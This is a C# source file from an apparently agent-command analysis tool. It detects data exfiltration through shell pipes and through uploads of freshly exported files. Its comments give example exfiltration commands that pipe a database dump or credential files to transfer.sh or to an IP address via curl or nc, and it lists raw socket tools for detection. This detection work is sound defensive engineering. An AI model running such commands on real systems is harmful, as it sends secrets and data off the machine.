using Gatehouse.Core.Http;
using Gatehouse.Core.Model;
using Gatehouse.Core.Shell.Syntax;

namespace Gatehouse.Core.Analysis;

/// <summary>
/// Data leaving the machine through a pipe: <c>pg_dump … | curl -T - https://transfer.sh/x</c>,
/// <c>cat ~/.dbt/profiles.yml | curl --data-binary @- …</c>, <c>… | nc 203.0.113.7 9000</c>. Each stage is harmless
/// on its own; together they send secrets or a database dump to someone else.
/// </summary>
internal sealed partial class CommandWalker
{
    private static readonly HashSet<string> RawSockets = new(StringComparer.Ordinal) { "nc", "ncat", "netcat", "socat", "telnet" };

    private static readonly HashSet<string> StdinUploadArguments = new(StringComparer.Ordinal)
    {
        "@-", "-", "--upload-file=-", "--data-binary=@-", "--data=@-", "--json=@-",
    };

    /// <summary>What the stages so far put on the pipe: nothing notable, data (a dump, an export), or secrets.</summary>
    private enum PipeContent
    {
        Ordinary,
        Data,
        Secrets,
    }

    private static PipeContent ContentOf(List<AgentAction> actions, int first)
    {
        var content = PipeContent.Ordinary;
        for (var i = first; i < actions.Count; i++)
        {
            var action = actions[i];
            if (action.HasTag(Tags.CredentialAccess) || action.Target.Kind is "credential" or "secret")
            {
                return PipeContent.Secrets;
            }

            if (action.Verb is Verb.Read or Verb.List && action.Target.Kind is "database" or "table" or "collection" or "backup" or "snapshot" or "stack")
            {
                content = PipeContent.Data;
            }
        }

        return content;
    }

    /// <summary>Called after a stage is walked: a network sender fed by earlier stages that carried data or secrets.</summary>
    private void CheckPipeExfiltration(Pipeline pipeline, int stage, PipeContent upstream, WalkScope scope)
    {
        if (stage == 0 || pipeline.Commands[stage] is not SimpleCommand { Words.Count: > 0 } sink || CommandName(sink.Words[0]) is not { } program)
        {
            return;
        }

        var arguments = sink.Words.Skip(1).Select(w => w.StaticValue ?? w.Text).ToList();
        var destination = arguments.FirstOrDefault(a => a.Contains("://", StringComparison.Ordinal)) ?? arguments.LastOrDefault(a => a.Length > 0 && a[0] != '-');
        var rawSocket = RawSockets.Contains(program) && destination is not null && !IsLoopbackHost(destination);
        var uploadsStdin = program is "curl" or "wget" or "http" or "https" or "xh"
            && arguments.Any(a => StdinUploadArguments.Contains(a) || a.EndsWith("=@-", StringComparison.Ordinal) || a.EndsWith("=<-", StringComparison.Ordinal))
            && destination is not null && !IsLoopbackHost(destination);
        if (!rawSocket && !(uploadsStdin && upstream != PipeContent.Ordinary))
        {
            return;
        }

        var what = upstream switch
        {
            PipeContent.Secrets => "secrets",
            PipeContent.Data => "a data dump",
            _ => "local data",
        };
        Emit(
            ActionFactory.Simple(program, "gatehouse.pipe-exfiltration", Verb.Read, upstream == PipeContent.Secrets ? "credential" : "data", destination, upstream == PipeContent.Secrets ? Risk.Critical : Risk.High, false,
                $"pipes {what} to {destination}, off this machine", Tags.CredentialAccess, Tags.Exfiltration),
            scope);
    }

    /// <summary>Files this line wrote from sensitive reads (<c>mongoexport … --out users.json</c>), so uploading them later is caught.</summary>
    private readonly HashSet<string> _sensitiveFiles = new(StringComparer.Ordinal);

    /// <summary>After a command that read data or secrets: the file-like arguments it names may now hold them.</summary>
    private void RememberSensitiveOutputs(IReadOnlyList<Word> arguments, int firstAction)
    {
        if (ContentOf(_actions, firstAction) == PipeContent.Ordinary)
        {
            return;
        }

        foreach (var argument in arguments)
        {
            if (argument.StaticValue is { Length: > 0 } value && value[0] != '-' && !value.Contains("://", StringComparison.Ordinal)
                && value.Contains('.', StringComparison.Ordinal))
            {
                _sensitiveFiles.Add(NormalizeFilePath(value[(value.IndexOf('=', StringComparison.Ordinal) + 1)..]));
            }
        }
    }

    /// <summary><c>curl -T users.json https://transfer.sh/…</c> where this line just exported users.json.</summary>
    private void CheckSensitiveFileUpload(string program, IReadOnlyList<Word> arguments, WalkScope scope)
    {
        if (_sensitiveFiles.Count == 0 || !(Uploaders.Contains(program) || program is "curl" or "wget" or "http" or "https" or "xh"))
        {
            return;
        }

        foreach (var argument in arguments)
        {
            if (argument.StaticValue is not { Length: > 0 } value)
            {
                continue;
            }

            var file = value.TrimStart('@');
            var at = file.IndexOf("=@", StringComparison.Ordinal);
            file = NormalizeFilePath(at >= 0 ? file[(at + 2)..] : file);
            if (_sensitiveFiles.Contains(file))
            {
                Emit(
                    ActionFactory.Simple(program, "gatehouse.file-exfiltration", Verb.Read, "data", file, Risk.High, false, $"sends {file}, which this command line filled with exported data, off the machine", Tags.CredentialAccess, Tags.Exfiltration),
                    scope);
                return;
            }
        }
    }

    /// <summary>The host part of a URL or <c>host:port</c> destination is this machine.</summary>
    private static bool IsLoopbackHost(string destination)
    {
        var host = destination;
        var scheme = host.IndexOf("://", StringComparison.Ordinal);
        if (scheme >= 0)
        {
            host = host[(scheme + 3)..];
        }

        var end = host.IndexOfAny(['/', ':']);
        return HttpUrl.IsLoopbackHost(end >= 0 ? host[..end] : host);
    }
}
